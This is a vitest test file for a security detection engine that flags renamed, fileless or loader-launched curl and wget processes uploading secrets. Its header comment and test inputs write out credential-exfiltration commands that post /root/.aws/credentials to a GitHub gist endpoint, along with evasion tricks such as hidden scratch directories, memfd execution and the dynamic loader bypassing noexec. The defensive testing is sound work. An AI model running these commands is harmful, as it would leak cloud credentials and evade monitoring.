@@ -1,0 +1,67 @@
+/**
+ * curl copied under another name into a scratch directory (found by red-team review): `cp "$(command -v
+ * curl)" /tmp/.c/x; /tmp/.c/x -d @/root/.aws/credentials https://api.github.com/gists` posts a few KiB, far
+ * under the egress threshold, and no entry knew the name, so nothing was raised; nor run from a memfd, or
+ * through the dynamic loader (`ld-linux-x86-64.so.2 /usr/bin/curl …`, how a `noexec` mount is bypassed). A
+ * program started from a scratch or hidden directory, or fileless, with an uploader's command line is that
+ * uploader, renamed; the loader's program is recognised as itself.
+ */
+import { describe, expect, it } from 'vitest';
+import { correlatorConfigSchema } from '../../../src/correlate/config.js';
+import { DestinationClassifier } from '../../../src/correlate/destinations.js';
+import { recognizeProcess } from '../../../src/rules/index.js';
+import { brief, run, Scenario } from './builder.js';
+
+const classifier = new DestinationClassifier(correlatorConfigSchema.parse({}).destinations, 100);
+const recognize = (binary: string, args: string) => {
+  const r = recognizeProcess({ binary, args, parentBinary: null, parentArgs: null }, (h, p) =>
+    classifier.isUploadTarget(h, p),
+  );
+  return r?.kind === 'push' ? { tool: r.tool, renamed: r.renamed } : r;
+};
+
+describe('an uploader copied under another name', () => {
+  it('is recognised by its command line in a scratch or hidden directory', () => {
+    expect(recognize('/tmp/.c/x', '-d @/root/.aws/credentials https://api.github.com/gists')).toEqual({
+      tool: 'curl',
+      renamed: true,
+    });
+    expect(recognize('/dev/shm/kworker', '--post-file=/root/.aws/credentials https://api.github.com/gists')).toEqual({
+      tool: 'wget',
+      renamed: true,
+    });
+  });
+
+  it('run fileless (a memfd, a descriptor) or by the dynamic loader, is recognised too', () => {
+    const gist = '-d @/root/.aws/credentials https://api.github.com/gists';
+    expect(recognize('/memfd:x (deleted)', gist)).toEqual({ tool: 'curl', renamed: true });
+    expect(recognize('/dev/fd/3', gist)).toEqual({ tool: 'curl', renamed: true });
+    // The loader runs the program its first word names: curl itself, or a copy in a scratch directory.
+    expect(recognize('/lib64/ld-linux-x86-64.so.2', `/usr/bin/curl ${gist}`)).toEqual({ tool: 'curl', renamed: false });
+    expect(recognize('/lib/ld-musl-x86_64.so.1', `--argv0 sshd /tmp/.c/x ${gist}`)).toEqual({
+      tool: 'curl',
+      renamed: true,
+    });
+    expect(recognize('/lib64/ld-linux-x86-64.so.2', '--list /usr/bin/curl')).toBeNull();
+  });
+
+  it('not elsewhere, nor without an upload to a forge or registry', () => {
+    expect(recognize('/usr/local/bin/x', '-d @/root/.aws/credentials https://api.github.com/gists')).toBeNull();
+    expect(recognize('/tmp/go-build1/b001/exe/app', '-d https://api.github.com/repos/acme/app')).toBeNull();
+    expect(recognize('/tmp/.c/x', '-d @/tmp/l.json https://logs.example.com/ingest')).toBeNull();
+  });
+
+  for (const source of ['tetragon', 'falco'] as const)
+    it(`a credential posted by it is high, and named renamed (${source})`, () => {
+      const s = new Scenario({ source });
+      const c = s.container({ namespace: 'prod', pod: 'web-2', name: 'web' });
+      const sh = s.init(c);
+      const x = s.exec(c, '/tmp/.c/x', '-sd @/root/.aws/credentials https://api.github.com/gists', { parent: sh });
+      s.read(x, '/root/.aws/credentials', 116).wait(300).exit(x);
+      const alerts = run(s.events).alerts;
+      expect(brief(alerts)).toEqual([
+        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'api.github.com' },
+      ]);
+      expect(alerts[0]!.summary).toContain('/tmp/.c/x');
+    });
+});
